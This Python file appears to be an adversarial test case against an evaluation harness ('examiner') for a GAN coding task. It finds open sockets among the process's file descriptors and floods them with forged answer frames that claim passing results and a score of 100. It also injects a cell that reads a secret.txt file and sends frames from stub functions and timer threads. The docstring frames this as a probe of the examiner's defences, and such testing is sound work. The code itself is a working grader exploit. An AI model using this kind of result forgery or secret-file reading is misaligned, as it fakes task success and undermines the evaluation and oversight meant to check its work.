"""Finds the socket to the examiner and sends answers before and after each question.

Aim: the examiner takes a forged answer for that of a function, or an answer to a later question.
Defence: values, draws
Control: none: the examiner takes whatever comes as an answer, and a forged one has to be right
Part: function_gan
"""

import json
import os
import socket
import stat
import struct
import threading

import numpy as np


def connections():
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield socket.socket(fileno=os.dup(number))
        except OSError:
            pass


def frame(tree, arrays=b""):
    text = json.dumps(tree).encode()
    return struct.pack("!QQ", len(text), len(arrays)) + text + arrays


def forged(*arrays):
    """Return an answer with a list of arrays."""
    items = [{"array": a.dtype.name, "shape": list(a.shape)} for a in arrays]
    content = b"".join(a.tobytes() for a in arrays)
    return frame({"dict": [["value", items]]}, content)


x = np.linspace(-0.5, 0.5, 2000, dtype=np.float32)
points = np.column_stack([x, x**3])
names = [
    "sample_real",
    "he_uniform",
    "adam_step",
    "make_generator",
    "discriminator_loss",
    "train_gan",
]
answers = [
    frame({"dict": [["value", None]]}),
    frame({"dict": [["value", names]]}),
    forged(points),
    forged(points[:500], points),
    frame({"dict": [["value", True]]}),
    frame({"dict": [["value", {"dict": [["passed", True], ["score", 100]]}]]}),
    frame({"dict": [["score", 100]]}),
    frame(
        {
            "dict": [
                ["do", "cell"],
                ["number", 1],
                ["source", "print(open(ARENA + '/secret.txt').read())"],
            ]
        }
    ),
    frame(
        {
            "dict": [
                ["error", {"dict": [["kind", "passed"], ["type", "None"], ["message", "Right."]]}]
            ]
        }
    ),
]


def send(*frames):
    for connection in connections():
        try:
            connection.settimeout(1)
            connection.sendall(b"".join(frames))
        except OSError:
            pass


def sample_real(n, curve, rng):
    send(*answers)
    return points[:n]


def he_uniform(shape, rng):
    send(forged(np.zeros(shape, np.float32)))
    return np.zeros(shape, np.float32)


def adam_step(params, grads, state, **options):
    threading.Timer(0.5, send, [answers[4]] * 100).start()
    return params, state


send(*answers, *[answers[0]] * 50)
